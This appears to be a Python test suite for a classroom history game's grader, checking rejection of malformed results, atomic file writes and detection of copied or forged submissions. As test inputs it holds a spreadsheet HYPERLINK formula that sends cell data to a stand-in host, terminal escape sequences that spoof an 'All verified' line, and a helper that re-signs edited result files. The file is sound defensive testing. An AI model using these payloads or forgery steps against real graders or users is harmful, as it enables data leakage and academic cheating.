"""Issue 15 points 1-6: a bad result never stops grading, names cannot inject, a student's
bytes never lose an attempt, outputs are atomic, copies and edited counters fail, lifted
constraints grade as played."""

from __future__ import annotations

import csv
import errno
import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from game.challenges import load_challenge
from game.challenges.grade import grade_files, table, verify
from game.challenges.play import play_challenge
from game.challenges.result import (
    ResultNotSaved,
    build_result,
    chain,
    genesis,
    read_result,
    save_result,
    write_result,
)
from tests.challenges.helpers import SMALL, edit, play_path, text_session

REPO = Path(__file__).resolve().parents[2]


def resign(data: dict) -> None:
    """What a forger does after editing: recompute the chain."""
    data["genesis"] = genesis(data)
    data["chain"] = chain(data, data["turns"])


# -- point 1: one bad result is one "unreadable" row ---------------------------------------
BAD_RESULTS = {
    "negative seed": lambda d: d.update(seed=-1),
    "objective id a list": lambda d: d["objectives"][0].update(id=["x"]),
    "turn choices a list": lambda d: d["turns"][0].update(choices=["x"]),
    "5000-digit seed": lambda d: d.update(seed=int("9" * 4000)),
    "5000-digit score": lambda d: d.update(score=float("1" + "0" * 300)),
    "choices not objects": lambda d: d.update(choices=[1, 2]),
    "settings a list": lambda d: d.update(settings=[]),
    "chain of numbers": lambda d: d.update(chain=[1]),
    "version 99": lambda d: d.update(version=99),
}


@pytest.mark.parametrize("case", BAD_RESULTS)
def test_a_badly_shaped_result_is_one_unreadable_row_and_the_class_is_graded(challenge, genuine, tmp_path, case):
    bad = tmp_path / "bad.json"
    bad.write_text(genuine.read_text())
    edit(bad, BAD_RESULTS[case])
    rows = grade_files([str(bad), str(genuine)], challenge)
    assert [r.status for r in rows] == ["unreadable", "verified"], rows[0].problems
    assert str(rows[0].unreadable[0]).startswith(f"{bad}:")


def test_a_lone_surrogate_in_the_name_does_not_stop_grading(challenge, genuine, tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text(genuine.read_text().replace('"student": "Ada"', '"student": "A\\ud800da"'))
    rows = grade_files([str(bad), str(genuine)], challenge)
    assert [r.status for r in rows] == ["unreadable", "verified"]
    assert '"student"' in str(rows[0].unreadable[0])
    table(rows, challenge).encode("utf-8")  # printable


def test_nan_and_infinity_are_not_numbers_a_result_may_hold(challenge, genuine, tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text(genuine.read_text().replace('"score": 4', '"score": NaN'))
    result, diagnostics = read_result(bad)
    assert result is None and "NaN is not a number" in str(diagnostics.errors[0])


def test_a_huge_number_of_digits_is_refused(challenge, genuine, tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text(genuine.read_text().replace('"seed": 3', '"seed": ' + "9" * 5000))
    rows = grade_files([str(bad)], challenge)
    assert rows[0].status == "unreadable"


# -- point 2: names and texts cleaned where shown ----------------------------------------
FORMULA = '=HYPERLINK("http://x.invalid/?"&B3,"Open report")'


@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-2+3", "@SUM(A1)"])
def test_a_formula_name_is_a_plain_cell_in_the_csv(challenge, tmp_path, name):
    run = play_path(challenge, {"crisis": "honour"}, seed=3, why="we keep our treaty")
    path = save_result(build_result(run, name), tmp_path / "r.json")
    rows = grade_files([str(path)], challenge)
    assert rows[0].verified
    out = tmp_path / "class.csv"
    from game.challenges.grade import write_csv

    write_csv(rows, challenge, out)
    cells = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert cells[0]["name"] == "'" + name


def test_escape_sequences_and_newlines_never_reach_the_terminal_or_add_rows(challenge, genuine, tmp_path):
    forged = tmp_path / "forged.json"
    forged.write_text(genuine.read_text())
    edit(forged, lambda d: (d.update(student="\x1b[2J\x1b[32mAll verified\nEve  4/4  pass  yes"), resign(d)))
    rows = grade_files([str(forged)], challenge)
    text = table(rows, challenge)
    assert "\x1b" not in text and len(text.splitlines()) == 3
    run = subprocess.run([sys.executable, "-m", "game", "grade", str(forged), "--challenge", str(SMALL),
                          "--csv", str(tmp_path / "c.csv")], cwd=REPO, capture_output=True, text=True)
    assert "\x1b" not in run.stdout + run.stderr
    assert len(list(csv.reader((tmp_path / "c.csv").open(encoding="utf-8-sig")))) == 2


def test_a_name_typed_with_an_escape_is_stored_clean(challenge, tmp_path):
    session, out = text_session(["", "1", "the treaty binds France", "\x1b[2JAda\x07", ""])
    play_challenge(session, challenge, directory=tmp_path)
    (result,) = [json.loads(p.read_text()) for p in tmp_path.glob("*.json")]
    assert result["student"] == "[2JAda"


# -- point 3: a student's bytes are never fatal ------------------------------------------
def test_non_utf8_bytes_in_a_justification_and_name_keep_the_attempt(tmp_path):
    """Piped Latin-1 bytes: the result is saved with U+FFFD and verifies."""
    stdin = b"\n1\nla d\xe9fense du trait\xe9\nZo\xeb\n\n"
    run = subprocess.run([sys.executable, "-m", "game", "play", "--text", "--challenge", str(SMALL)],
                         cwd=tmp_path, input=stdin, capture_output=True,
                         env={**os.environ, "PYTHONPATH": str(REPO), "LC_ALL": "C.UTF-8",
                              "SDL_VIDEODRIVER": "dummy"})
    assert run.returncode == 0, run.stderr.decode()
    saved = [line for line in run.stdout.decode("utf-8", "replace").splitlines() if "Result saved: " in line]
    path = Path(saved[0].split("Result saved: ", 1)[1])
    result = json.loads(path.read_text(encoding="utf-8"))
    assert result["student"] == "Zo\ufffd" and "\ufffd" in result["choices"][0]["justification"]
    assert verify(result, load_challenge(SMALL)).verified


# -- point 4 (outputs): complete or not at all ------------------------------------------
def _enospc(*args, **kwargs):
    raise OSError(errno.ENOSPC, "No space left on device")


def test_a_result_that_cannot_be_written_leaves_no_partial_file_and_keeps_a_copy(challenge, tmp_path, monkeypatch):
    run = play_path(challenge, {"crisis": "honour"}, seed=3)
    result = build_result(run, "Ada")
    target = tmp_path / "full" / "ada.json"
    target.parent.mkdir()
    import game.fileio as fileio

    real = os.fsync
    monkeypatch.setattr(fileio.os, "fsync", lambda fd: _enospc() if "full" in os.readlink(f"/proc/self/fd/{fd}") else real(fd))
    with pytest.raises(ResultNotSaved) as caught:
        write_result(result, target, fallback_dir=tmp_path / "kept")
    assert "No space left" in caught.value.reason
    assert not list(target.parent.iterdir())  # neither the file nor a temporary file
    assert json.loads(caught.value.fallback.read_text())["student"] == "Ada"


def test_the_terminal_offers_another_place_when_the_result_cannot_be_written(challenge, tmp_path, monkeypatch):
    import game.challenges.result as result_module

    real = result_module.save_result

    def full_disk(result, path):
        if "full" in str(path):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(result, path)

    monkeypatch.setattr(result_module, "save_result", full_disk)
    monkeypatch.setattr(result_module, "_results_dir", lambda: tmp_path / "userfolder")
    (tmp_path / "full").mkdir()
    other = tmp_path / "elsewhere"
    other.mkdir()
    session, out = text_session(["", "1", "the treaty binds France", "Ada", "", str(other)])
    assert play_challenge(session, challenge, directory=tmp_path / "full") == 0
    text = out.getvalue()
    assert "Could not save" in text and "No space left on device" in text
    assert "A copy of your result is kept in" in text and f"Result saved: {other}" in text
    assert list(other.glob("*.json")) and list((tmp_path / "userfolder").glob("*.json"))


def test_grade_csv_on_a_full_disk_is_an_error_not_a_traceback_or_an_empty_file(challenge, genuine, tmp_path):
    code = (
        "import errno, os, sys\n"
        "import game.fileio as f\n"
        "def full(fd): raise OSError(errno.ENOSPC, 'No space left on device')\n"
        "f.os.fsync = full\n"
        "from game.cli import main\n"
        f"sys.exit(main(['grade', {str(genuine)!r}, '--challenge', {str(SMALL)!r}, '--csv', {str(tmp_path / 'c.csv')!r}]))\n"
    )
    run = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True)
    assert run.returncode == 1 and "Traceback" not in run.stderr
    assert "cannot write" in run.stderr and "No space left" in run.stderr and "wrote" not in run.stdout
    assert not (tmp_path / "c.csv").exists() and not list(tmp_path.glob(".*.tmp"))


# -- point 4 (cheats) ---------------------------------------------------------------------
def _copy(genuine: Path, tmp_path: Path, change) -> Path:
    copy = tmp_path / "copy.json"
    copy.write_text(genuine.read_text())
    def sync(d):  # a careful copier edits the justification where the turn records it too
        for c in d["choices"]:
            for turn in d["turns"]:
                if turn["event"] == c["event"] and c["power"] in turn.get("student", {}):
                    turn["student"][c["power"]]["justification"] = c["justification"]
    edit(copy, lambda d: (d.update(student="Bob", saved="2999-01-01T00:00:00+00:00"), change(d), sync(d), resign(d)))
    return copy


@pytest.mark.parametrize("change", [
    lambda d: None,
    lambda d: d["choices"][0].update(justification=d["choices"][0]["justification"] + " "),
    lambda d: d["choices"][0].update(justification="We KEEP our   treaty!"),
])
def test_a_copy_is_a_verdict_that_fails_grading(challenge, genuine, tmp_path, change):
    copy = _copy(genuine, tmp_path, change)
    rows = grade_files([str(genuine), str(copy)], challenge)
    assert rows[0].status == "verified" and rows[1].status == "copied", rows[1].problems
    assert "Ada" in rows[1].copy_of
    run = subprocess.run([sys.executable, "-m", "game", "grade", str(genuine), str(copy), "--challenge", str(SMALL)],
                         cwd=REPO, capture_output=True, text=True)
    assert run.returncode == 1 and "COPIED" in run.stdout
    allowed = subprocess.run([sys.executable, "-m", "game", "grade", str(genuine), str(copy), "--challenge",
                              str(SMALL), "--allow-copies"], cwd=REPO, capture_output=True, text=True)
    assert allowed.returncode in (0, 1) and "COPIED" not in allowed.stdout


def test_an_edited_historical_field_is_caught(challenge, genuine, tmp_path):
    edit(genuine, lambda d: (d["choices"][0].update(historical="honour"), resign(d)))
    graded = verify(read_result(genuine)[0], challenge)
    assert not graded.verified and any("differs from the re-run in historical" in p for p in graded.problems)


def test_edited_rewinds_break_the_chain(challenge, genuine):
    edit(genuine, lambda d: d.update(rewinds=0 if d["rewinds"] else 3))
    graded = verify(read_result(genuine)[0], challenge)
    assert not graded.verified and "broken chain at its start" in graded.problems[0]


def test_the_grade_table_shows_each_result_s_seed(challenge, genuine):
    rows = grade_files([str(genuine)], challenge)
    assert "seed" in table(rows, challenge).splitlines()[0] and " 3 " in table(rows, challenge).splitlines()[2]


def test_a_version_1_result_still_verifies(challenge, genuine):
    """Backward compatible: version 1 chained only the header fields."""
    def downgrade(d):
        d["version"] = 1
        d.pop("chance")
        for c in d["choices"]:
            c.pop("lifted", None)
        resign(d)
    edit(genuine, downgrade)
    assert verify(read_result(genuine)[0], challenge).verified


# -- point 5: a lifted constraint is graded as applied ----------------------------------
def test_a_lifted_constraint_is_recorded_and_graded_as_the_game_applied_it(challenge, tmp_path):
    every = dict(challenge.forbidden)
    event = "crisis"
    decision = play_path(challenge, {}, seed=3).challenge  # noqa: F841 - ensure the helper runs
    from game.challenges.run import ChallengeRun

    probe = ChallengeRun(challenge, 3)
    d = probe.decision()
    for view in d.options:
        every[(event, d.power, view.id)] = "forbidden for the test"
    strict = replace(challenge, forbidden=every)
    run = ChallengeRun(strict, 3)
    assert run.constraint_lifted(run.decision())
    while not run.is_over():
        decision = run.decision()
        run.apply([o.id for o in decision.options if o.legal][0], "no choice was left")
    result = build_result(run, "Ada")
    assert result["choices"][0]["lifted"] is True
    graded = verify(json.loads(json.dumps(result)), strict)
    assert graded.verified, graded.problems
    result["choices"][0]["lifted"] = False
    resign(result)
    assert not verify(result, strict).verified


# -- point 4 / issue 12 point 2: scoring over many worlds --------------------------------
SUDETEN = REPO / "scenarios" / "challenges" / "france_sudeten_1938.yaml"


@pytest.fixture(scope="module")
def worlds_challenge():
    return load_challenge(SUDETEN)


def test_a_worlds_challenge_scores_the_expected_score_and_grading_re_runs_it(worlds_challenge):
    run = play_path(worlds_challenge, {}, seed=0)
    result = build_result(run, "Ada")
    assert result["chance"] == {"mode": "worlds", "worlds": 1000, "seed": worlds_challenge.seed}
    assert result["played_score"] == run.score().points and result["score"] != result["played_score"]
    assert all(0 <= o["share"] <= 1 for o in result["objectives"])
    assert verify(json.loads(json.dumps(result)), worlds_challenge).verified
    forged = json.loads(json.dumps(result))
    forged["score"] = 5.0
    forged["objectives"][0]["share"] = 1.0
    resign(forged)
    problems = verify(forged, worlds_challenge).problems
    assert any("score differs" in p for p in problems) and any("held in 1" in p for p in problems)


def test_the_scoring_worlds_do_not_depend_on_the_seed_a_student_plays(worlds_challenge):
    """No seed shopping: the worlds come from the challenge's seed."""
    from game.challenges.worlds import score_worlds

    keys = [c.key() for c in play_path(worlds_challenge, {}, seed=0).choices]
    assert score_worlds(worlds_challenge, keys) == score_worlds(replace(worlds_challenge), keys)
    assert score_worlds(worlds_challenge, keys).worlds == 1000


def test_validate_warns_about_a_challenge_without_a_fixed_seed(tmp_path):
    text = SMALL.read_text().replace("seed: 3\n", "")
    path = SMALL.parent / "_no_seed_tmp.yaml"
    path.write_text(text)
    try:
        run = subprocess.run([sys.executable, "-m", "game", "validate", str(path)], cwd=REPO,
                             capture_output=True, text=True)
    finally:
        path.unlink()
    assert "warning: no 'seed:'" in run.stdout and "try seeds until one passes" in run.stdout
